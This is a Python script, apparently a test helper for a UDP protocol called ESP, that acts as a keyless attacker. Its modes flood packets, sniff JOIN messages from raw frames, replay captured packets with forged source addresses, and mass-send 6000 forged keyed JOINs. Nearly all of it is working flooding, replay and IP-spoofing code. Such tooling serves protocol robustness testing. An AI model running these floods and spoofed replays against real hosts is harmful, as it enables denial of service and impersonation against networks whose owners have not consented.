# An attacker of live ESP who has no key.
# usage: esp_attack.py absent PACKETS_PER_S ADDRESS...   ESP packets to each in turn, until it is ended
#        esp_attack.py hear DEVICE FILE                  JOINs that pass by, with their senders
#        esp_attack.py again FILE TO SOURCE...           what was heard once more, for ever: in the
#                                                        sender's name, and in that of each SOURCE
#        esp_attack.py copies FILE TO PACKETS_PER_S      the first that was heard, for ever, in its sender's name
#        esp_attack.py joins KEY_FILE GROUP FROM TO      who has the key: 6000 members of one host, again and again
#        esp_attack.py repeat FILE TO                    the packet of the file (hex), ten times a second, for ever
#        esp_attack.py sees DEVICE ADDRESS               exits with 0 when a packet for it comes
# "ready" is printed when it has begun (again: when all has been sent once).
import itertools
import socket
import struct
import sys
import time
import zlib
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "test"))
from siphash import siphash  # noqa: E402

PORT, JOIN, X = 4253, 66, 0x01


def nop(number):
    head = struct.pack(">BBHQ", X, 0, 0, number)
    return head + struct.pack(">I", zlib.crc32(head))


def udp_to(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return socket.socket(family, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK), (address, PORT)


def absent(rate, *addresses):
    ends = [udp_to(a) for a in addresses]
    began = time.monotonic()
    for i, (link, to) in enumerate(itertools.cycle(ends)):
        try:
            link.sendto(nop(i), to)
        except OSError:
            pass  # our own neighbour is not known yet
        if i == len(ends):
            print("ready", flush=True)
        ahead = i / float(rate) - (time.monotonic() - began)
        if ahead > 0.01:
            time.sleep(ahead)


def hear(device, path):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    link.bind((device, 0))
    print("ready", flush=True)
    with open(path, "w") as file:
        while True:
            frame = link.recv(2000)
            if len(frame) > 43 and frame[14] == 0x45 and frame[23] == 17 and frame[43] == JOIN and \
                    struct.unpack(">H", frame[36:38])[0] == PORT:
                len_of = struct.unpack(">H", frame[38:40])[0]
                print(socket.inet_ntoa(frame[26:30]), struct.unpack(">H", frame[34:36])[0],
                      frame[42:34 + len_of].hex(), file=file, flush=True)


def sees(device, address):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD if ":" in address else 0x0800))
    link.bind((device, 0))
    wanted = socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
    at = 38 if ":" in address else 30
    until = time.monotonic() + 2
    link.settimeout(2)
    while time.monotonic() < until:
        frame = link.recv(2000)
        if frame[at:at + len(wanted)] == wanted:
            return
    sys.exit(1)


def repeat(path, to):
    link, end = udp_to(to)
    packet = bytes.fromhex(open(path).read())
    while True:
        link.sendto(packet, end)
        time.sleep(0.1)


def raw_socket():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.IPPROTO_RAW)


def in_the_name_of(source, port, octets, to):
    udp = struct.pack(">HHHH", int(port), PORT, 8 + len(octets) // 2, 0) + bytes.fromhex(octets)
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + udp


def copies(path, to, rate):
    raw = raw_socket()
    packet = in_the_name_of(*open(path).readline().split(), to)
    began = time.monotonic()
    for i in itertools.count():
        try:
            raw.sendto(packet, (to, 0))
        except BlockingIOError:
            pass
        if i == 1000:
            print("ready", flush=True)
        ahead = i / float(rate) - (time.monotonic() - began)
        if ahead > 0.002:
            time.sleep(ahead)


def keyed_join(key, group, member, source):
    address = bytes(10) + b"\xff\xff" + socket.inet_aton(source)
    body = struct.pack(">BBHQ", 0, JOIN, 20, 0) + struct.pack(">QQQQQ", group, member, 1, 0, 0) + \
        struct.pack(">II", 0, 10000) + address + struct.pack(">HHI", PORT, 0, 0)
    body += struct.pack(">Q", siphash(key, body))
    return body + struct.pack(">I", zlib.crc32(body))


def joins(key_file, group, source, to):
    key, group = bytes.fromhex(open(key_file).read()), int(group)
    group_key = b"".join(struct.pack("<Q", siphash(key, struct.pack("<QB", group, half))) for half in (0, 1))
    letters = [keyed_join(group_key, group, member, source) for member in range(1, 6001)]
    link, end = udp_to(to)
    link.bind((source, PORT))
    print("ready", flush=True)
    for letter in itertools.cycle(letters):
        try:
            link.sendto(letter, end)
        except OSError:
            pass


def again(path, to, *sources):
    letters = [line.split() for line in open(path)]
    raw = raw_socket()
    for turn in itertools.count():
        for sender, port, octets in letters:
            for source in (sender, *sources):
                raw.sendto(in_the_name_of(source, port, octets, to), (to, 0))
                time.sleep(0.0005)
        if turn == 0:
            print("ready", flush=True)


{"absent": absent, "hear": hear, "again": again, "copies": copies, "joins": joins, "repeat": repeat, "sees": sees}[sys.argv[1]](*sys.argv[2:])
